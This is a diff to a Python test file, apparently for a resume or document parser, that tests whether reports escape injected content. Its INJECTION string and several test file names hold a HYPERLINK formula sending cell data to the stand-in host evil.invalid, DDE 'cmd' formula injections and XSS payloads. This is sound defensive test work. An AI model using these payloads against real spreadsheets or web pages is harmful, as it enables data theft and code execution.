@@ -324,11 +324,11 @@ def docm() -> bytes:
 
 # --- text -------------------------------------------------------------------------------------
 
-INJECTION = (
+INJECTION = (  # one keyword-set term per line, so every line is quoted as evidence
     '=HYPERLINK("http://evil.invalid/?x="&A1,"click") PyTorch\n'
-    "+cmd|' /C calc'!A0 PyTorch\n@SUM(1+1)*cmd PyTorch\n-2+3+cmd PyTorch\n"
-    "<script>alert(1)</script> PyTorch\n<img src=x onerror=alert(2)> PyTorch\n"
-    "[link](javascript:alert(3)) PyTorch\nPython Kubernetes CUDA\n"
+    "+cmd|' /C calc'!A0 TensorFlow\n@SUM(1+1)*cmd CUDA\n-2+3+cmd JAX\n"
+    "<script>alert(1)</script> Transformers\n<img src=x onerror=alert(2)> Calculus\n"
+    "[link](javascript:alert(3)) Deep learning\nGPU TPU\n"
 )
 INJECTION_MARKS = ("<script>", "<img", "onerror=alert(2)>", "javascript:alert")
 """Strings that must not appear unescaped (as live markup) in an HTML or Markdown report."""
@@ -396,7 +396,7 @@ CASES: tuple[Case, ...] = (
     Case("nul_bytes.txt", lambda _: RESUME.replace("Skills", "Sk\x00ills").encode(), "read",
          notice="nul_removed"),
     Case("long_line.txt", lambda _: one_long_line(8), "read", notice="text_limit"),
-    Case("huge_line.txt", lambda _: one_long_line(50), "error", "limit_exceeded", "too large"),
+    Case("huge_line.txt", lambda _: one_long_line(50), "error", "limit_exceeded", "20 MB"),
     Case("injection.txt", lambda _: INJECTION.encode(), "read"),
     Case('=HYPERLINK("http:__evil.invalid","x").txt', lambda _: RESUME.encode(), "read"),
     Case("<img src=x onerror=alert(1)>.txt", lambda _: RESUME.encode(), "read"),
